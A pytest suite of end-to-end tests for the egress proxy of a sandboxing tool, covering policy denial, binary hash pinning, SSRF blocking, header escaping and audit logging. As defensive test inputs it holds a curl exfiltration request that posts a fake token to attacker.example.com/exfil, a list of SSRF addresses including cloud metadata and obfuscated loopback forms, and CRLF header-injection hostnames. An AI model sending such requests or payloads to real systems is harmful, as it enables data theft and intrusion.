"""End-to-end tests of the egress proxy in `tollgate up`: real clients (curl,
python), real upstreams on loopback (HTTP and HTTPS, the test-only switch
proxy.test_allow_loopback on, except for the SSRF tests), the audit events."""
import http.server
import json
import os
import shutil
import socket
import ssl
import subprocess
import sys
import threading
import time

import pytest

from conftest import SHARED, settle

VALIDATE_PY = SHARED / "ocsf" / "validate.py"
CURL = shutil.which("curl") or "/usr/bin/curl"
CURL_REAL = os.path.realpath(CURL)


class Handler(http.server.BaseHTTPRequestHandler):
    body = b"hello from upstream\n" * 100

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    def do_POST(self):
        n = int(self.headers.get("Content-Length", 0))
        self.rfile.read(n)
        self.do_GET()

    def log_message(self, *a):
        pass


@pytest.fixture(scope="module")
def upstreams(tmp_path_factory):
    """An HTTP and an HTTPS server on 127.0.0.1, ports picked by the kernel."""
    d = tmp_path_factory.mktemp("tls")
    cert, key = d / "cert.pem", d / "key.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
                    "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
                    "-keyout", str(key), "-out", str(cert)], check=True, capture_output=True)
    plain = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    tls = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(str(cert), str(key))
    tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
    for s in (plain, tls):
        threading.Thread(target=s.serve_forever, daemon=True).start()
    yield {"http": plain.server_address[1], "https": tls.server_address[1], "cert": str(cert)}
    plain.shutdown()
    tls.shutdown()


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


@pytest.fixture
def up(tollgate_bin, tmp_path):
    """`tollgate up` with its proxy on a free port; returns (gateway, proxy port)."""
    from conftest import Gateway
    started = []

    def make(*extra, loopback=True):
        port = free_port()
        args = ["--proxy-listen", f"127.0.0.1:{port}"]
        if loopback:
            args += ["--set", "proxy.test_allow_loopback=1"]
        g = start_up(Gateway(tollgate_bin, tmp_path / "state", [*args, *extra]))
        started.append(g)
        return g, port
    yield make
    for g in started:
        g.stop()


def start_up(g, env=None):
    """Starts `tollgate up` (env: its environment, default ours); its
    start-up log is kept in g.startup_text."""
    import select
    args = [g.binary, "up", "--state", g.state, "--listen", "127.0.0.1:0", *g.extra]
    g.proc = subprocess.Popen(args, stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, env=env)
    buf, end = b"", time.time() + 20
    while time.time() < end:
        r, _, _ = select.select([g.proc.stderr], [], [], 0.2)
        if r:
            chunk = os.read(g.proc.stderr.fileno(), 4096)
            if not chunk:
                break
            buf += chunk
            text = buf.decode(errors="replace")
            if "listening on http" in text and "proxy for sandbox" in text:
                line = [l for l in text.splitlines() if "listening on http" in l][0]
                g.port = int(line.split("://", 1)[1].split(" ")[0].rsplit(":", 1)[1])
                g.startup_text = text
                return g
        elif g.proc.poll() is not None:
            break
    g.proc.kill()
    raise RuntimeError("tollgate up did not start: " + buf.decode(errors="replace"))


def set_policy(tollgate_bin, g, tmp_path, text):
    p = tmp_path / "policy.yaml"
    p.write_text(text)
    env = dict(os.environ, TOLLGATE_STATE=g.state, TOLLGATE_GATEWAY=g.url)
    r = subprocess.run([tollgate_bin, "policy", "set", "default", "--policy", str(p)],
                       capture_output=True, env=env)
    assert r.returncode == 0, r.stderr


def events(g):
    settle(g)
    status, data = g.request("GET", "/v1/logs?format=json&limit=0&source=sandbox")
    assert status == 200
    return [json.loads(l) for l in data.decode().splitlines()]


def lines(tollgate_bin, g):
    settle(g)
    env = dict(os.environ, TOLLGATE_STATE=g.state, TOLLGATE_GATEWAY=g.url)
    r = subprocess.run([tollgate_bin, "logs", "default", "-n", "1000"], capture_output=True,
                       env=env)
    return r.stdout.decode()


def curl(port, *args, timeout=20):
    return subprocess.run([CURL, "-sS", "-x", f"http://127.0.0.1:{port}", *args],
                          capture_output=True, timeout=timeout)


def wait_for(pred, timeout=5):
    end = time.time() + timeout
    while time.time() < end:
        if pred():
            return True
        time.sleep(0.1)
    return False


POLICY = """\
version: 1
network_policies:
  local:
    endpoints:
      - {{host: 127.0.0.1, port: {http}}}
      - {{host: 127.0.0.1, port: {https}}}
    binaries:
      - path: {curl}
"""


def test_allowed_forward_and_tunnel_are_logged_with_bytes(up, upstreams, tollgate_bin, tmp_path):
    g, port = up()
    set_policy(tollgate_bin, g, tmp_path, POLICY.format(curl=CURL_REAL, **upstreams))
    r = curl(port, f"http://127.0.0.1:{upstreams['http']}/x")
    assert r.returncode == 0 and r.stdout == Handler.body, r.stderr
    r = curl(port, "--cacert", upstreams["cert"], f"https://127.0.0.1:{upstreams['https']}/")
    assert r.returncode == 0 and r.stdout == Handler.body, r.stderr
    assert wait_for(lambda: len([e for e in events(g) if e["activity_id"] == 2]) == 2)
    evs = events(g)
    get = [e for e in evs if e["class_uid"] == 4002][0]
    assert get["action"] == "Allowed" and get["http_request"]["http_method"] == "GET"
    proc = get["actor"]["process"]
    assert proc["file"]["path"] == CURL_REAL and proc["pid"] > 0
    assert len(proc["file"]["hashes"][0]["value"]) == 64
    opened = [e for e in evs if e["class_uid"] == 4001 and e["activity_id"] == 1]
    assert opened and opened[0]["action"] == "Allowed"
    assert opened[0]["dst_endpoint"]["port"] == upstreams["https"]
    assert opened[0]["proxy_endpoint"]["port"] == port
    closes = [e for e in evs if e["activity_id"] == 2]
    tunnel = [e for e in closes if e["dst_endpoint"]["port"] == upstreams["https"]][0]
    # TLS both ways: more than the body came back, a ClientHello and more went out
    assert tunnel["traffic"]["bytes_in"] > len(Handler.body)
    assert tunnel["traffic"]["bytes_out"] > 200
    assert tunnel["duration"] >= 0 and tunnel["end_time"] >= tunnel["start_time"]
    text = lines(tollgate_bin, g)
    assert f"NET:OPEN [INFO] ALLOWED {CURL_REAL}(" in text
    assert "NET:CLOSE [INFO] ALLOWED" in text and "HTTP:GET [INFO] ALLOWED" in text


def test_denied_host_gets_403_json_and_a_reason(up, upstreams, tollgate_bin, tmp_path):
    g, port = up()
    set_policy(tollgate_bin, g, tmp_path, POLICY.format(curl=CURL_REAL, **upstreams))
    r = curl(port, "https://attacker.example.com/exfil", "-d", "diag=TOPSECRET-TOKEN-4242")
    assert r.returncode == 56
    assert b"CONNECT tunnel failed, response 403" in r.stderr
    r = curl(port, "http://attacker.example.com/x")
    body = json.loads(r.stdout)
    assert body["error"] == "policy_denied"
    assert body["reason"] == "endpoint attacker.example.com:80 is not allowed by any policy"
    r = curl(port, "https://example.org/", "--proxy-header", "X: y")
    text = lines(tollgate_bin, g)
    assert ("NET:OPEN [MED] DENIED " + CURL_REAL) in text
    assert "[reason:endpoint attacker.example.com:443 is not allowed by any policy]" in text
    # the token never reached the proxy in clear; it appears nowhere
    spool = os.path.join(g.state, "spool")
    for f in os.listdir(spool):
        assert b"TOPSECRET-TOKEN-4242" not in open(os.path.join(spool, f), "rb").read()
    assert "TOPSECRET" not in text


def test_binary_not_in_policy_is_denied(up, upstreams, tollgate_bin, tmp_path):
    g, port = up()
    set_policy(tollgate_bin, g, tmp_path, POLICY.format(curl=CURL_REAL, **upstreams))
    code = ("import urllib.request as u;"
            f"o=u.build_opener(u.ProxyHandler({{'http':'http://127.0.0.1:{port}'}}));"
            f"o.open('http://127.0.0.1:{upstreams['http']}/')")
    r = subprocess.run([sys.executable, "-c", code], capture_output=True)
    assert r.returncode != 0 and b"403" in r.stderr
    assert curl(port, f"http://127.0.0.1:{upstreams['http']}/").returncode == 0
    denied = [e for e in events(g) if e.get("action") == "Denied"][0]
    py = os.path.realpath(sys.executable)
    assert denied["actor"]["process"]["file"]["path"] == py
    assert denied["status_detail"].startswith(f"binary '{py}' not allowed in policy 'local'")
    assert len(denied["actor"]["process"]["file"]["hashes"][0]["value"]) == 64


def test_ssrf_guard_blocks_internal_addresses_the_policy_allows(up, tollgate_bin, tmp_path):
    g, port = up(loopback=False)
    target = free_port()
    hosts = ["127.0.0.1", "169.254.169.254", "0.0.0.0", "localhost", "::1", "::ffff:127.0.0.1"]
    eps = "".join(f"      - {{host: '{h}', port: {target}}}\n" for h in hosts)
    # a public address on a control-plane port: refused before any packet leaves
    eps += "      - {host: '1.1.1.1', port: 10250}\n"
    set_policy(tollgate_bin, g, tmp_path, "version: 1\nnetwork_policies:\n  inner:\n"
               "    endpoints:\n" + eps + f"    binaries:\n      - path: {CURL_REAL}\n")
    asks = ["127.0.0.1", "169.254.169.254", "0.0.0.0", "2130706433", "0x7f.1", "127.1",
            "localhost", "LOCALHOST.", "[::1]", "[::ffff:127.0.0.1]"]
    asks = [f"http://{h}:{target}/" for h in asks] + ["http://1.1.1.1:10250/"]
    for h in asks:
        r = curl(port, h)
        body = json.loads(r.stdout or b"{}")
        assert body.get("error") == "ssrf_denied", (h, r.stdout, r.stderr)
    ssrf = [e for e in events(g) if e.get("firewall_rule", {}).get("type") == "ssrf"]
    assert len(ssrf) == len(asks)
    assert any("link-local" in e["status_detail"] for e in ssrf)
    assert any("port 10250 is a control-plane port" in e["status_detail"] for e in ssrf)
    findings = [e for e in events(g) if e["class_uid"] == 2004]
    assert findings and findings[0]["finding_info"]["uid"] == "ssrf_attempt"


def test_tofu_hash_change_is_denied_with_a_finding(up, upstreams, tollgate_bin, tmp_path):
    g, port = up()
    mine = tmp_path / "bin" / "mycurl"
    mine.parent.mkdir()
    shutil.copy(CURL_REAL, mine)
    set_policy(tollgate_bin, g, tmp_path, POLICY.format(curl=str(mine), **upstreams))
    url = f"http://127.0.0.1:{upstreams['http']}/"
    r = subprocess.run([str(mine), "-sS", "-x", f"http://127.0.0.1:{port}", url],
                       capture_output=True)
    assert r.returncode == 0, r.stderr
    time.sleep(2.1)  # the hash cache does not trust files younger than 2 s
    with open(mine, "ab") as f:  # a different binary at the same path
        f.write(b"\0tampered")
    time.sleep(2.1)
    r = subprocess.run([str(mine), "-sS", "-x", f"http://127.0.0.1:{port}", url],
                       capture_output=True)
    body = json.loads(r.stdout)
    assert body["reason"] == f"binary integrity check failed: {mine} hash changed"
    f = [e for e in events(g) if e["class_uid"] == 2004][0]
    assert f["finding_info"]["uid"] == "binary_hash_changed"
    env = dict(os.environ, TOLLGATE_STATE=g.state, TOLLGATE_GATEWAY=g.url)
    r = subprocess.run([tollgate_bin, "sandbox", "get", "default", "--json"], capture_output=True, env=env)
    pins = json.loads(r.stdout)["pinned_binaries"]
    assert len(pins[str(mine)]) == 64  # the first hash stays pinned


def raw_exchange(port, data, wait=10):
    """Sends raw bytes to 127.0.0.1:port; all it answers until it closes."""
    s = socket.create_connection(("127.0.0.1", port), timeout=wait)
    try:
        s.sendall(data)
    except OSError:
        pass
    out = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            out += chunk
    except OSError:
        pass
    s.close()
    return out


NOWHERE = """\
version: 1
network_policies:
  nowhere:
    endpoints:
      - {{host: nosuch.invalid, port: 80}}
      - {{host: nosuch.invalid, port: 443}}
    binaries:
      - path: {curl}
      - path: {python}
"""


def raw_head(port, request):
    """Sends `request` to the proxy; returns the response head's lines and the body."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
        s.sendall(request)
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    return head.split(b"\r\n"), body


def colour_lines(tollgate_bin, g):
    """`tollgate logs` on a terminal (a pty), so in colour."""
    import pty
    settle(g)
    env = dict(os.environ, TOLLGATE_STATE=g.state, TOLLGATE_GATEWAY=g.url)
    env.pop("NO_COLOR", None)
    master, slave = pty.openpty()
    p = subprocess.Popen([tollgate_bin, "logs", "default", "-n", "1000"], stdout=slave,
                         stderr=subprocess.DEVNULL, env=env)
    os.close(slave)
    out = b""
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:
            break
        if not chunk:
            break
        out += chunk
    p.wait(timeout=20)
    os.close(master)
    return out.decode(errors="replace")


def test_no_upstream_is_502_with_the_reason_in_the_head_and_a_failed_line(
        up, tollgate_bin, tmp_path):
    g, port = up()
    set_policy(tollgate_bin, g, tmp_path,
               NOWHERE.format(curl=CURL_REAL, python=os.path.realpath(sys.executable)))
    # curl -sI shows the reason in the status line and in X-Tollgate-Reason
    r = curl(port, "-I", "http://nosuch.invalid/")
    head = r.stdout.decode()
    status = head.splitlines()[0]
    assert status.startswith("HTTP/1.1 502 Bad Gateway (dns lookup of nosuch.invalid failed"), head
    hdr = [l for l in head.splitlines() if l.lower().startswith("x-tollgate-reason:")]
    assert hdr and hdr[0].split(":", 1)[1].strip().startswith(
        "dns lookup of nosuch.invalid failed"), head
    # the JSON body is kept
    r = curl(port, "http://nosuch.invalid/")
    body = json.loads(r.stdout)
    assert body["error"] == "upstream_unreachable"
    assert body["reason"].startswith("dns lookup of nosuch.invalid failed")
    # a CONNECT gets the same head
    lines_, body = raw_head(port, b"CONNECT nosuch.invalid:443 HTTP/1.1\r\n"
                                  b"Host: nosuch.invalid:443\r\n\r\n")
    assert lines_[0].startswith(b"HTTP/1.1 502 Bad Gateway (dns lookup of nosuch.invalid"), lines_
    assert any(l.startswith(b"X-Tollgate-Reason: dns lookup of nosuch.invalid failed")
               for l in lines_), lines_
    assert json.loads(body)["reason"].startswith("dns lookup of nosuch.invalid failed")
    # the log line does not read as a success, and is not green
    text = lines(tollgate_bin, g)
    fails = [l for l in text.splitlines() if "NET:FAIL" in l]
    assert fails, text
    for l in fails:
        assert "ALLOWED" not in l, l
        assert " NET:FAIL [LOW] FAILED " in l and "[reason:dns lookup of nosuch.invalid" in l, l
    coloured = [l for l in colour_lines(tollgate_bin, g).splitlines() if "NET:FAIL" in l]
    assert coloured and not any("\x1b[32m" in l for l in coloured), coloured


def test_reason_in_the_head_is_escaped(up, tollgate_bin, tmp_path):
    """A hostname's bytes reach the reason (a 403 names the endpoint): they
    cannot end the header line or add one."""
    g, port = up()
    set_policy(tollgate_bin, g, tmp_path,
               NOWHERE.format(curl=CURL_REAL, python=os.path.realpath(sys.executable)))
    hosts = [b"ev\xc3\xa4l.example", b"a\rX-Injected: 1.example", b"a\x01\x7f\\b.example"]
    for host in hosts:
        for req in (b"CONNECT " + host + b":443 HTTP/1.1\r\nHost: x\r\n\r\n",
                    b"GET http://" + host + b"/ HTTP/1.1\r\nHost: " + host + b"\r\n\r\n"):
            lines_, _ = raw_head(port, req)
            assert lines_[0].startswith(b"HTTP/1.1 4"), lines_
            for l in lines_:
                assert all(0x20 <= c < 0x7f for c in l), lines_
                assert not l.lower().startswith(b"x-injected"), lines_
            why = [l for l in lines_ if l.startswith(b"X-Tollgate-Reason: ")]
            assert len(why) == 1, lines_
    # a UTF-8 hostname the policy refuses: its bytes as \xNN
    lines_, body = raw_head(port, b"CONNECT ev\xc3\xa4l.example:443 HTTP/1.1\r\nHost: x\r\n\r\n")
    why = [l for l in lines_ if l.startswith(b"X-Tollgate-Reason: ")]
    if lines_[0].startswith(b"HTTP/1.1 403"):
        assert b"ev\\xc3\\xa4l.example:443" in why[0], lines_


def test_hostile_heads_get_4xx_and_the_proxy_keeps_serving(up, upstreams, tollgate_bin,
                                                           tmp_path):
    g, port = up("--set", "proxy.head_timeout=1s")
    set_policy(tollgate_bin, g, tmp_path, POLICY.format(curl=CURL_REAL, **upstreams))

    def raw(data, wait=3):
        return raw_exchange(port, data, wait)
    assert raw(b"GET http://x/" + b"a" * 100 * 1024 + b" HTTP/1.1\r\n\r\n").startswith(
        b"HTTP/1.1 431")
    hdrs = b"".join(b"X-%d: y\r\n" % i for i in range(10000))
    assert raw(b"GET http://x/ HTTP/1.1\r\n" + hdrs + b"\r\n").startswith(b"HTTP/1.1 431")
    assert raw(b"\x16\x03\x01garbage\r\n\r\n").startswith(b"HTTP/1.1 400")
    assert raw(b"CONNECT example.com HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 400")
    assert raw(b"GET /relative HTTP/1.1\r\nHost: x\r\n\r\n").startswith(b"HTTP/1.1 400")
    assert raw(b"GET https://x/ HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 400")
    start = time.time()
    assert raw(b"GET http://x/ HTTP/1.1\r\nX: slow", wait=5).startswith(b"HTTP/1.1 408")
    assert time.time() - start < 4
    r = curl(port, f"http://127.0.0.1:{upstreams['http']}/")
    assert r.returncode == 0 and r.stdout == Handler.body


def test_policy_update_flips_denied_to_allowed_live(up, upstreams, tollgate_bin, tmp_path):
    g, port = up()
    set_policy(tollgate_bin, g, tmp_path, POLICY.format(curl=CURL_REAL, **upstreams))
    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=other.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{other.server_address[1]}/"
    assert json.loads(curl(port, url).stdout)["error"] == "policy_denied"
    env = dict(os.environ, TOLLGATE_STATE=g.state, TOLLGATE_GATEWAY=g.url)
    r = subprocess.run([tollgate_bin, "policy", "update", "default", "--add-endpoint",
                        f"127.0.0.1:{other.server_address[1]}", "--binary", CURL_REAL,
                        "--wait"], capture_output=True, env=env)
    assert r.returncode == 0, r.stderr
    assert curl(port, url).stdout == Handler.body
    other.shutdown()


@pytest.mark.skipif(not VALIDATE_PY.exists(), reason="../shared/ocsf absent (see README)")
def test_every_proxy_event_validates(up, upstreams, tollgate_bin, tmp_path):
    g, port = up()
    set_policy(tollgate_bin, g, tmp_path, POLICY.format(curl=CURL_REAL, **upstreams))
    curl(port, f"http://127.0.0.1:{upstreams['http']}/")
    curl(port, "--cacert", upstreams["cert"], f"https://127.0.0.1:{upstreams['https']}/")
    curl(port, "https://attacker.example.com/")
    curl(port, f"http://127.0.0.1:{free_port()}/")  # allowed host? no: denied
    assert wait_for(lambda: any(e["activity_id"] == 2 for e in events(g)))
    status, data = g.request("GET", "/v1/logs?format=json&limit=0")
    f = tmp_path / "all.jsonl"
    f.write_bytes(data)
    r = subprocess.run([sys.executable, str(VALIDATE_PY), "--warnings-fail", str(f)],
                       capture_output=True)
    assert r.returncode == 0, r.stdout.decode()[-3000:]


def test_standalone_proxy_follows_policy_and_loses_nothing(gateway, upstreams, tollgate_bin,
                                                           tmp_path):
    """`tollgate proxy` in its own process: `policy set --wait` returns once it
    loaded the version; its events reach the gateway; while the gateway is
    down they wait in the proxy's spool and arrive after the restart."""
    import select
    g = gateway()
    port = free_port()
    env = dict(os.environ, TOLLGATE_STATE=g.state, TOLLGATE_GATEWAY=g.url,
               TOLLGATE_TOKEN=g.token)
    p = subprocess.Popen([tollgate_bin, "proxy", "--sandbox", "default", "--state",
                          str(tmp_path / "pstate"), "--listen", f"127.0.0.1:{port}", "--set",
                          "proxy.test_allow_loopback=1"], env=env, stderr=subprocess.PIPE)
    try:
        buf = b""
        while b"listening on port" not in buf:
            r, _, _ = select.select([p.stderr], [], [], 10)
            chunk = os.read(p.stderr.fileno(), 4096) if r else b""
            assert chunk, buf
            buf += chunk
        pol = tmp_path / "p.yaml"
        pol.write_text(POLICY.format(curl=CURL_REAL, **upstreams))
        r = subprocess.run([tollgate_bin, "policy", "set", "default", "--policy", str(pol),
                            "--wait", "--timeout", "20"], capture_output=True, env=env)
        assert r.returncode == 0 and b"loaded: version 2" in r.stdout, (r.stdout, r.stderr)
        url = f"http://127.0.0.1:{upstreams['http']}/"
        assert curl(port, url).stdout == Handler.body
        assert wait_for(lambda: any(e["class_uid"] == 4002 for e in events(g)), 10)
        g.stop()  # the gateway goes away; the proxy keeps deciding and keeps the events
        for _ in range(5):
            assert curl(port, url).stdout == Handler.body
        assert json.loads(curl(port, "http://denied.example/").stdout)["error"] == "policy_denied"
        g.start()
        want = 1 + 5 + 1  # HTTP:GET events before, during, and the denial

        def gets():
            return [e["metadata"]["uid"] for e in events(g) if e["class_uid"] == 4002]
        # each exactly once: a batch resent after the restart is recognised by uid
        assert wait_for(lambda: len(gets()) == want, 20), len(gets())
        assert len(set(gets())) == want
        assert len([e for e in events(g) if e.get("action") == "Denied"]) >= 1
    finally:
        p.terminate()
        p.wait(20)


NODE_CLIENT = r"""
const http = require('http'), tls = require('tls'), fs = require('fs');
const [proxyPort, host, port, ca] = process.argv.slice(2);
const req = http.request({host: '127.0.0.1', port: +proxyPort, method: 'CONNECT',
                          path: `${host}:${port}`});
req.on('connect', (res, socket) => {
  if (res.statusCode !== 200) { console.log('status', res.statusCode); process.exit(3); }
  const t = tls.connect({socket, servername: host, ca: fs.readFileSync(ca)}, () => {
    t.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
  });
  let body = '';
  t.on('data', d => body += d);
  t.on('end', () => { process.stdout.write(body.split('\r\n\r\n')[1] || ''); });
});
req.on('error', e => { console.log('error', e.message); process.exit(4); });
req.end();
"""


@pytest.mark.skipif(not shutil.which("node"), reason="node is not installed")
def test_node_allowed_curl_denied_same_host(up, upstreams, tollgate_bin, tmp_path):
    g, port = up()
    node = os.path.realpath(shutil.which("node"))
    set_policy(tollgate_bin, g, tmp_path, POLICY.format(curl=node, **upstreams))
    script = tmp_path / "client.js"
    script.write_text(NODE_CLIENT)
    r = subprocess.run([node, str(script), str(port), "127.0.0.1", str(upstreams["https"]),
                        upstreams["cert"]], capture_output=True, timeout=30)
    assert r.returncode == 0 and r.stdout == Handler.body, (r.stdout[:200], r.stderr)
    r = curl(port, "--cacert", upstreams["cert"], f"https://127.0.0.1:{upstreams['https']}/")
    assert r.returncode == 56 and b"403" in r.stderr
    opens = [e for e in events(g) if e["class_uid"] == 4001 and e["activity_id"] == 1]
    by_exe = {e["actor"]["process"]["file"]["path"]: e for e in opens}
    assert by_exe[node]["action"] == "Allowed"
    assert by_exe[CURL_REAL]["action"] == "Denied"
    for e in by_exe.values():
        assert len(e["actor"]["process"]["file"]["hashes"][0]["value"]) == 64
